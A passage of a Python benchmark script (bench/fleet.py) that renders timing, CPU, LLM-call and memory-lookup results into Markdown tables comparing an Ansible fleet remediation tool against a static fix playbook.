        {"target": "(a) every broken host healed (lab check)", "value": f"{a['healed_lab_check']}/{a['broken']}",
         "met": a["healed_lab_check"] == a["broken"]},
        {"target": "(c) every broken host healed (lab check)", "value": f"{c['healed_lab_check']}/{c['broken']}",
         "met": c["healed_lab_check"] == c["broken"]},
    ]
    scaling = [s for s in r["scaling"] if s["forks"] == r["forks"]]
    if scaling:
        calls = {s["llm_calls"] for s in scaling}
        rows.append({"target": "scaling: LLM calls do not grow with hosts",
                     "value": ", ".join(f"{s['hosts']}h: {s['llm_calls']}" for s in scaling), "met": len(calls) == 1})
    return rows


SECTION_BEGIN = "<!-- bench/fleet.py: begin (generated; edit bench/fleet.py, not this section) -->"
SECTION_END = "<!-- bench/fleet.py: end -->"


def write_section(path: Path, text: str) -> None:
    """Replace this script's section of BENCHMARKS.md (between its markers) and nothing else;
    without the markers, the section is added at the end."""
    section = f"{SECTION_BEGIN}\n{text.rstrip()}\n{SECTION_END}\n"
    try:
        current = path.read_text(encoding="utf-8")
    except FileNotFoundError:
        current = "# Benchmarks\n"
    begin, end = current.find(SECTION_BEGIN), current.find(SECTION_END)
    if begin != -1 and end > begin:
        updated = current[:begin] + section + current[end + len(SECTION_END):].lstrip("\n")
        if not updated.endswith("\n"):
            updated += "\n"
    elif begin != -1 or end != -1:
        raise SystemExit(f"fleet: {path} holds only one of the markers {SECTION_BEGIN!r} / {SECTION_END!r}; "
                         "fix it by hand")
    else:
        updated = current.rstrip("\n") + "\n\n" + section
    tmp = path.with_suffix(".md.tmp")
    tmp.write_text(updated, encoding="utf-8")
    os.replace(tmp, path)


def render_memory(m: dict) -> list[str]:
    lines = [
        "### Memory lookup with a large inventory (no containers)",
        "",
        f"`python bench/memory_lookup.py --hosts {m['hosts']} --episodes {m['episodes_per_host']}`"
        f" (run by this script): {m['hosts']:,} inventory hosts of {m['episodes_per_host']} episodes each"
        f" over {m['signatures']} signatures, written through the cache plugins themselves. The first planning"
        " step of a run reads every host's memory once and writes the run's index (heal.py, `memory.index`);"
        f" every other step reads that index and looks its signature up (median and p95 of {m['steps']} steps)."
        " The last column is the scan the index replaced: every host read at each step.",
        "",
        "| fact cache | cache size | first step of a run (reads every host, builds the index) | each later step |"
        " index | a full scan per step |",
        "|---|---|---|---|---|---|",
    ]
    for name, label in (("jsonfile", "`sentinel.remediation.jsonfile`"), ("redis", "`community.general.redis`")):
        x = m.get(name) or {}
        if "skipped" in x:
            lines.append(f"| {label} | skipped: {x['skipped']} | | | | |")
            continue
        lines.append(f"| {label} | {x['cache_mb']} MB | {x['first_step_s']:.2f} s | {x['step_ms_median']:.2f} ms"
                     f" (p95 {x['step_ms_p95']:.2f}) | {x['index_kb']:.0f} kB | {x['scan_per_step_s']:.2f} s |")
    return lines + [""]


def _lab_and_machine_cpu(run: dict) -> str:
    """The lab's and the whole machine's CPU seconds of a run, as two table cells."""
    lab = "-" if run.get("lab_cpu_s") is None else f"{run['lab_cpu_s']:.1f}"
    machine = "-" if run.get("machine_cpu_s") is None else f"{run['machine_cpu_s']:.1f}"
    return f"{lab} | {machine}"


def render_table(r: dict, notes: str = "") -> str:
    m = r["machine"]
    rows = r["table"]
    lines = [
        "## Fleet: remediation vs the static floor (bench/fleet.py)",
        "",
        "Every figure of this section comes from one run of:",
        "",
        "```sh",
        "source scripts/setup",
        r["command"],
        "```",
        "",
        f"Run {r['generated']}, forks {r['forks']}, faults " + ", ".join(f"`{f}`" for f in r["faults"])
        + " round-robin over the hosts, the test LLM server answering at once. Per size, in this order: the"
        " healthy pass and its floor, the floor, (a) the first run (fresh memory), (c) the memory run (same"
        " faults, (a)'s fact cache), the floor again; the floor figure is the median of its two runs. Between"
        " runs the bench checks each host with the lab's own health check and repairs what is left (untimed).",
        f"Machine: {m['cpu']}, {m['cores']} cores, {m['memory']}; {m['ansible']}; load average before"
        f" {m['load_before']}, after {m['load_after']} (shared with other engineers' runs).",
        "",
        "The floor (`bench/floor.yml`) applies the catalogue's known fix to exactly the broken hosts; the healthy"
        " floor (`bench/healthy_floor.yml`) is one plain command per host. CPU is the controller's (ansible-playbook,"
        " its workers and the docker CLI of the connection, user + system); peak memory is the largest sampled sum of"
        " their resident memory. Lab CPU is what the lab containers used during the run (their cgroups): the"
        " modules, the commands and the services on the hosts. Machine CPU is everything the machine's cores did meanwhile"
        " (/proc/stat); what it holds beyond the other two is mostly the Docker engine reaching the hosts (dockerd,"
        " containerd, the shims and the runc of each `docker exec`). A run is bound by CPU when machine CPU comes"
        " close to the wall time times the cores.",
        "",
        "| hosts | run | wall s | / floor | CPU s | lab CPU s | machine CPU s | peak MB | LLM calls | signatures"
        " | healed (lab check) |",
        "|---|---|---|---|---|---|---|---|---|---|---|",
    ]
    for row in rows:
        n, floor = row["hosts"], row["floor_s"]
        for label, x in (("(a) first run", row["first"]), ("(c) memory run", row["memory"])):
            lines.append(f"| {n} | {label} | {x['seconds']:.1f} | {x['seconds'] / floor:.2f}x | {x['cpu_s']:.1f} |"
                         f" {_lab_and_machine_cpu(x)} | {x['peak_rss_mb']:.0f} | {x['llm_calls']} | {x['distinct_signatures']} |"
                         f" {x['healed_lab_check']}/{x['broken']} |")
        for label, x in (("floor", row["floor"]), ("floor again", row["floor_again"])):
            lines.append(f"| {n} | {label} | {x['seconds']:.1f} | | {x['cpu_s']:.1f} | {_lab_and_machine_cpu(x)} |"
                         f" {x['peak_rss_mb']:.0f} | 0 | |"
                         f" {x['healed_lab_check']}/{x['broken']} |")
        h = row["healthy"]
        lines.append(f"| {n} | healthy pass (`--tags monitor`) | {h['monitor']['seconds']:.1f} | {h['ratio']:.2f}x"
                     f" of {h['floor']['seconds']:.1f} | {h['monitor']['cpu_s']:.1f} | {_lab_and_machine_cpu(h['monitor'])} |"
                     f" {h['monitor']['peak_rss_mb']:.0f} | 0 | | |")
        lines.append(f"| {n} | healthy floor | {h['floor']['seconds']:.1f} | | {h['floor']['cpu_s']:.1f} |"
                     f" {_lab_and_machine_cpu(h['floor'])} | {h['floor']['peak_rss_mb']:.0f} | | | |")
    if len(rows) >= 2:
        small, big = rows[0], rows[-1]
        span = big["hosts"] - small["hosts"]
        per = {k: (big[k]["seconds"] - small[k]["seconds"]) / span for k in ("first", "memory")}
        per_floor = (big["floor_s"] - small["floor_s"]) / span
        per_cpu = (big["first"]["cpu_s"] - small["first"]["cpu_s"]) / span
        lines += ["", f"Cost per added host ({small['hosts']} → {big['hosts']} hosts): first run"
                  f" {per['first']:.2f} s, memory run {per['memory']:.2f} s, floor {per_floor:.2f} s of wall time;"
                  f" first run {per_cpu:.2f} s of controller CPU."]
    lines += ["", "Where the time goes at the largest size (profile_tasks, summed over hosts):", "",
              "| (a) first run: task | s | healthy pass: task | s |", "|---|---|---|---|"]
    left = rows[-1]["first"].get("task_profile") or []
    right = rows[-1]["healthy"]["monitor"].get("task_profile") or []
    for i in range(max(len(left), len(right))):
        a_cell = f"{left[i][0]} | {left[i][1]:.2f}" if i < len(left) else " | "
        m_cell = f"{right[i][0]} | {right[i][1]:.2f}" if i < len(right) else " | "
        lines.append(f"| {a_cell} | {m_cell} |")
    # The issue states its targets at 30 hosts; a table without that size is judged at its largest.
    big = next((row for row in rows if row["hosts"] == TARGET_HOSTS), rows[-1])
    up = rows[-1]["hosts"]
    lines += ["", f"Targets of issue 15 at {big['hosts']} hosts (this table's row, measured with all {up} lab containers"
              " up):", "", "| target | measured | met |", "|---|---|---|"]
    checks = [
        ("first run <= 2.0x floor (aim 1.5x)", f"{big['ratio_first']:.2f}x", big["ratio_first"] <= 2.0),
        ("memory run <= 1.5x floor", f"{big['ratio_memory']:.2f}x", big["ratio_memory"] <= 1.5),
        ("memory run: 0 LLM calls", big["memory"]["llm_calls"], big["memory"]["llm_calls"] == 0),
        ("first run: LLM calls = distinct signatures", f"{big['first']['llm_calls']} vs "
         f"{big['first']['distinct_signatures']}", big["first"]["llm_calls"] == big["first"]["distinct_signatures"]),
        ("every fault healed (lab check), both runs", f"{big['first']['healed_lab_check']}/{big['first']['broken']},"
         f" {big['memory']['healed_lab_check']}/{big['memory']['broken']}",
         big["first"]["healed_lab_check"] == big["first"]["broken"] == big["memory"]["healed_lab_check"]),
        ("healthy pass <= 1.2x floor", f"{big['healthy']['ratio']:.2f}x", big["healthy"]["ratio"] <= 1.2),
    ]
    for target, value, met in checks:
        lines.append(f"| {target} | {value} | {'yes' if met else '**no**'} |")
    lines.append("")
    if r.get("memory_lookup"):
        lines += render_memory(r["memory_lookup"])
    if notes:
        lines += [notes.strip(), ""]
    return "\n".join(lines)


def render_markdown(r: dict, notes: str = "") -> str:
    m = r["machine"]
    s = r["scenarios"]

    def row(label, x):
        tokens = f"{x.get('prompt_tokens', 0)} / {x.get('completion_tokens', 0)}"
        return (f"| {label} | {x['seconds']:.1f} | {x['seconds'] / r['floor_seconds']:.2f}x | {x['llm_calls']} | "
                f"{tokens} | {x['commands_executed']} | {x.get('healed_reported', '-')} | "
                f"{x['healed_lab_check']}/{x['broken']} | {x['rc']} |")

    lines = [
        "## Fleet benchmark (bench/fleet.py)",
        "",
        "Figures of one run of `bench/fleet.py` (every number below comes from that run; the same",
        "figures, machine-readable, are in `bench/results.json`). Regenerate with:",
        "",
        "```sh",
        "source scripts/setup",
        r["command"],
        "```",
        "",
        f"Run {r['generated']}, {r['hosts']} lab hosts (prefix `{PREFIX}`), forks {r['forks']}, faults "
        + ", ".join(f"`{f}`" for f in r["faults"]) + " round-robin over the hosts. Order of the runs: a warm-up,"
        " the healthy fleet (monitor, then its floor), (d), (a), (c), (d), (b), (d), then the scaling and"
        " settings rows. Between runs the bench checks each host with the lab's own health check and"
        " repairs what a run left broken (untimed).",
        "",
        "## Machine",
        "",
        f"- CPU: {m['cpu']}, {m['cores']} cores; memory {m['memory']}; kernel {m['kernel']}",
        f"- Python {m['python']}; {m['ansible']}; Docker {m['docker']}",
        f"- Load average (1/5/15 min) before: {m['load_before']}; after: {m['load_after']}"
        " (other engineers' tests may share the machine)",
        "",
        "## Fleet: remediation vs the static floor",
        "",
        "The floor (`bench/floor.yml`) applies the catalogue's known fix to exactly the broken hosts: no",
        "health check, no evidence, no planning, no verification, no fact gathering. Same inventory,",
        "same forks, same connection (docker CLI). Ratios are to the floor measured in this run: the median",
        f"of its three runs ({r['floor_runs_s'][0]:.1f} s before (a), {r['floor_runs_s'][1]:.1f} s between (c) and (b),"
        f" {r['floor_runs_s'][2]:.1f} s after (b)), {r['floor_seconds']:.1f} s.",
        "",
        "| scenario | wall s | / floor | LLM calls | prompt / completion tokens | commands run | healed (report) |"
        " healed (lab check) | rc |",
        "|---|---|---|---|---|---|---|---|---|",
        row("(a) remediate.yml, instant LLM", s["a"]),
        row(f"(b) remediate.yml, {s['b']['llm_latency_s']:g} s LLM latency", s["b"]),
        row("(c) second run, same faults, (a)'s memory", s["c"]),
        row("(d) floor: bench/floor.yml, before (a)", s["d"]),
        row("(d) floor again, between (c) and (b)", s["d_mid"]),
        row("(d) floor again, after (b)", s["d_again"]),
        "",
        f"Distinct failure signatures in (a): {r['distinct_signatures']}; LLM calls in (a): "
        f"{r['llm_calls_first_run']} (counted from the test server's own request log); in (c): "
        f"{r['llm_calls_memory_run']}. Command sources in (a): {s['a']['command_sources']}; in (c): "
        f"{s['c']['command_sources']}.",
        "",
        "## Healthy fleet",
        "",
        f"| run | wall s |\n|---|---|\n| `remediate.yml --tags monitor` over {r['healthy']['hosts']} healthy hosts | "
        f"{r['healthy']['monitor']['seconds']:.1f} |\n| `bench/healthy_floor.yml` (one command per host) | "
        f"{r['healthy']['floor']['seconds']:.1f} |\n| ratio | {r['healthy_ratio']:.2f}x |",
        "",
    ]
    if r["scaling"]:
        lines += ["## Scaling and settings", "",
                  "Scenario (a) (instant LLM, fresh memory) at each size; the floor at the same size right after it.",
                  "", "| hosts | forks | setting | wall s | floor s | / floor | LLM calls | distinct signatures |"
                  " healed (lab) |", "|---|---|---|---|---|---|---|---|---|"]
        for x in r["scaling"]:
            floor = f"{x['floor_seconds']:.1f}" if x["floor_seconds"] else "-"
            ratio = f"{x['ratio']:.2f}x" if x["ratio"] else "-"
            lines.append(f"| {x['hosts']} | {x['forks']} | {x.get('knob') or 'ansible.cfg'} | {x['seconds']:.1f} | "
                         f"{floor} | {ratio} | {x['llm_calls']} | {x['distinct_signatures']} | "
                         f"{x['healed_lab_check']}/{x['broken']} |")
        lines.append("")
    p, q = r["policy"], r["planner"]
    lines += [
        "## Controller-side costs",
        "",
        f"- Policy engine: {p['classify_per_second']:,} `classify` calls per second on one core "
        f"({p['microseconds_per_classify']} us each, over a mix of {p['commands_in_mix']} allowed, gated and refused"
        f" commands); `load_policy` {p['load_policy_ms']} ms."
        + (f" `bench/policy_throughput.py --seconds 2` (the policy's own corpus) in the same run: "
           f"`{' '.join(p['policy_throughput_py'].split())}`" if p.get("policy_throughput_py") else ""),
        f"- Planner, per call, LLM time excluded: {q['overhead_ms_median']} ms median (wall "
        f"{q['wall_ms_median']} ms minus {q['llm_client_ms_median']} ms inside the LLM client, instant test server,"
        f" {q['calls']} calls); with `backend: runbook` (no LLM at all): {q['runbook_backend_ms_median']} ms.",
        f"- Importing the `openai` client in a fresh Python process: {q['openai_import_ms']} ms. Ansible runs each"
        " planning task in a newly forked worker, so every planning task that reaches the LLM pays it once.",
        "",
        "## Where the time goes (profile_tasks: wall time of each task across the fleet, repeated names summed)",
        "",
        "| (a) first run: task | s | healthy monitor: task | s |",
        "|---|---|---|---|",
    ]
    left, right = s["a"].get("task_profile") or [], r["healthy"]["monitor"].get("task_profile") or []
    for i in range(max(len(left), len(right))):
        a_cell = f"{left[i][0]} | {left[i][1]:.2f}" if i < len(left) else " | "
        m_cell = f"{right[i][0]} | {right[i][1]:.2f}" if i < len(right) else " | "
        lines.append(f"| {a_cell} | {m_cell} |")
    lines += [
        "",
        "## Targets",
        "",
        "| target | measured | met |",
        "|---|---|---|",
    ]
    for t in r["targets"]:
        lines.append(f"| {t['target']} | {t['value']} | {'yes' if t['met'] else '**no**'} |")
    if notes:
        lines += ["", notes.strip()]
    return "\n".join(lines) + "\n"


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("--hosts", type=int, default=30)
    parser.add_argument("--forks", type=int, default=30)
    parser.add_argument("--faults", default=",".join(DEFAULT_FAULTS), help="comma-separated fault kinds")
    parser.add_argument("--latency", type=float, default=2.0, help="simulated LLM latency of scenario (b)")
    parser.add_argument("--scaling", "--scale", default="10,20,30", help="host counts of the scaling table")
    parser.add_argument("--fork-sweep", default="10", help="extra fork counts at the full host count")
    parser.add_argument("--knobs", default="ANSIBLE_PIPELINING=false",
                        help="comma-separated ANSIBLE_X=value settings, each timed as one more (a) run")
    parser.add_argument("--extra", action="append", default=[], metavar="VAR=JSON",
                        help="a role variable for every remediate.yml run, e.g. remediate_canary_size=0 (repeatable)")
    parser.add_argument("--skip-scaling", action="store_true")
    parser.add_argument("--prefix", default=PREFIX)
    parser.add_argument("--keep", action="store_true", help="keep the lab containers")
    parser.add_argument("--results", default=str(BENCH / "results.json"))
    parser.add_argument("--markdown", default=str(REPO / "BENCHMARKS.md"))
    parser.add_argument("--notes", help="a Markdown file appended to BENCHMARKS.md (analysis of this run)")
    parser.add_argument("--render-only", action="store_true", help="re-render the Markdown from --results")
    parser.add_argument("--table", default="",
                        help="comma-separated host counts: only the scaling table (healthy pass, floor, first run,"
                             " memory run, CPU and peak memory at each size) and the memory lookup")
    parser.add_argument("--memory-hosts", type=int, default=1000, help="inventory hosts of the memory lookup")
    parser.add_argument("--memory-episodes", type=int, default=50, help="episodes per host of the memory lookup")
    parser.add_argument("--memory-only", action="store_true", help="only the memory lookup (no containers)")
    opts = parser.parse_args(argv)
    opts.faults = tuple(f.strip() for f in opts.faults.split(",") if f.strip())
    unknown = [f for f in opts.faults if f not in FLOOR_FAULTS]
    if unknown:
        parser.error(f"bench/floor.yml knows no fix for {', '.join(unknown)}; use {', '.join(FLOOR_FAULTS)}")
    opts.scaling = [int(n) for n in opts.scaling.split(",") if n.strip() and int(n) <= opts.hosts]
    opts.fork_sweep = [int(n) for n in opts.fork_sweep.split(",") if n.strip()]
    opts.knobs = [k.strip() for k in opts.knobs.split(",") if "=" in k]
    extra = {}
    for item in opts.extra:
        name, sep, value = item.partition("=")
        if not sep or not name.strip():
            parser.error(f"--extra {item!r}: expected VAR=JSON")
        try:
            extra[name.strip()] = json.loads(value)
        except ValueError:
            extra[name.strip()] = value
    opts.extra = extra
    opts.table = sorted({int(n) for n in opts.table.split(",") if n.strip()})
    if opts.table:
        opts.hosts = max(opts.table)
    notes = Path(opts.notes).read_text(encoding="utf-8") if opts.notes else ""

    def render(results: dict) -> str:
        return render_table(results, notes) if "table" in results else render_markdown(results, notes)

    if opts.render_only:
        results = json.loads(Path(opts.results).read_text(encoding="utf-8"))
        write_section(Path(opts.markdown), render(results))
        return 0
    if opts.memory_only:
        print(json.dumps(memory_lookup(opts.memory_hosts, opts.memory_episodes), indent=2))
        return 0
    bench = Bench(opts)
    try:
        results = bench.table() if opts.table else bench.run()
    finally:
        if not opts.keep:
            bench.fleet.lab.down()
    results["memory_lookup"] = memory_lookup(opts.memory_hosts, opts.memory_episodes)
    Path(opts.results).write_text(json.dumps(results, indent=2, sort_keys=False) + "\n", encoding="utf-8")
    write_section(Path(opts.markdown), render(results))
    for t in results.get("targets") or []:
        log(f"{'MET ' if t['met'] else 'MISS'} {t['target']}: {t['value']}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
